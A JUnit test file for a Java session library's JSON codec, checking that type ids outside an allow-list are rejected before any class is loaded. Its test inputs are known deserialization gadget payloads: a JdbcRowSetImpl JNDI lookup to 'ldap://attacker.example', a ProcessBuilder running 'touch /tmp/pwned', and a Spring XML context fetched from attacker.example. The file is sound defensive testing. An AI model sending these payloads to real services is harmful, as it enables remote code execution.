package dev.portablesession.internal.codec.json;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.portablesession.internal.codec.AttributeDecodingException;
import dev.portablesession.internal.codec.Codecs;
import dev.portablesession.internal.codec.RecordingClassLoader;
import dev.portablesession.internal.codec.gadget.GadgetProbe;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Stored JSON naming a class outside the allow-list is refused before that class is even asked
 * of the class loader, wherever the type id sits.
 */
class JsonSecurityTest {

    private static final String ROWSET = "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\","
            + "\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}";

    private final RecordingClassLoader loader = new RecordingClassLoader();
    private final JsonAttributeCodec codec = new JsonAttributeCodec(Codecs.ALLOWED, loader);

    @BeforeEach
    void clearProbe() {
        GadgetProbe.EVENTS.clear();
    }

    static Stream<Arguments> payloads() {
        return Stream.of(
                Arguments.of("java.net.URL", "[\"java.net.URL\",\"http://attacker.example/\"]"),
                Arguments.of("javax.management.BadAttributeValueExpException",
                        "{\"@class\":\"javax.management.BadAttributeValueExpException\",\"val\":\"x\"}"),
                Arguments.of("com.sun.rowset.JdbcRowSetImpl", ROWSET),
                Arguments.of("java.lang.ProcessBuilder",
                        "{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"java.util.ArrayList\",[\"touch\",\"/tmp/pwned\"]]}"),
                Arguments.of("org.springframework.context.support.ClassPathXmlApplicationContext",
                        "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://attacker.example/x.xml\"]"),
                Arguments.of("com.sun.rowset.JdbcRowSetImpl", "[\"java.util.ArrayList\",[\"harmless\"," + ROWSET + "]]"),
                Arguments.of("java.net.URL", "[\"java.util.HashSet\",[[\"java.net.URL\",\"file:/x\"]]]"),
                Arguments.of("java.lang.ProcessBuilder",
                        "{\"@class\":\"java.util.HashMap\",\"k\":{\"@class\":\"java.lang.ProcessBuilder\"}}"),
                Arguments.of("java.net.URL", "[\"java.util.HashMap\",[[[\"java.net.URL\",\"file:/x\"],1]]]"),
                Arguments.of("com.sun.rowset.JdbcRowSetImpl",
                        "{\"@class\":\"dev.portablesession.internal.codec.fixture.Holder\",\"value\":" + ROWSET + "}"),
                Arguments.of("javax.management.BadAttributeValueExpException",
                        "{\"@class\":\"dev.portablesession.internal.codec.fixture.Point\",\"x\":1,"
                                + "\"tag\":[\"javax.management.BadAttributeValueExpException\",{}]}"),
                Arguments.of("java.net.URL",
                        "{\"@class\":\"dev.portablesession.internal.codec.fixture.Cart\",\"label\":[\"java.net.URL\",\"file:/x\"]}"),
                Arguments.of("[Ljava.net.URL;", "[\"[Ljava.net.URL;\",[[\"java.net.URL\",\"file:/x\"]]]"),
                Arguments.of("java.util.ArrayList<java.net.URL>", "[\"java.util.ArrayList<java.net.URL>\",[]]"),
                Arguments.of("dev.portablesession.internal.codec.gadget.JsonGadget",
                        "{\"@class\":\"dev.portablesession.internal.codec.gadget.JsonGadget\",\"command\":\"calc\"}"),
                Arguments.of("dev.portablesession.internal.codec.gadget.JsonGadget",
                        "{\"@class\":\"dev.portablesession.internal.codec.fixture.Holder\","
                                + "\"value\":{\"@class\":\"dev.portablesession.internal.codec.gadget.JsonGadget\",\"command\":\"calc\"}}"),
                Arguments.of("dev.portablesession.internal.codec.gadget.JsonGadget",
                        "{\"@class\":\"dev.portablesession.internal.codec.fixture.Cart\",\"items\":[\"java.util.ArrayList\","
                                + "[{\"@class\":\"dev.portablesession.internal.codec.gadget.JsonGadget\",\"command\":\"calc\"}]]}"));
    }

    @ParameterizedTest(name = "{0} in {1}")
    @MethodSource("payloads")
    void classOutsideTheAllowListIsNeverLoaded(String gadget, String json) {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class,
                () -> codec.decode("cart", json.getBytes(StandardCharsets.UTF_8)));

        assertEquals("attribute \"cart\" cannot be decoded from JSON: type " + gadget + " is not in the allow-list",
                e.getMessage());
        assertFalse(loader.requested.contains(gadget), "asked the class loader for " + gadget);
        assertTrue(loader.requested.stream().noneMatch(name -> name.contains("gadget") || name.contains("URL")
                || name.contains("rowset") || name.contains("ProcessBuilder") || name.contains("management")),
                () -> "class loader was asked for " + loader.requested);
        assertEquals(List.of(), GadgetProbe.EVENTS);
    }
}
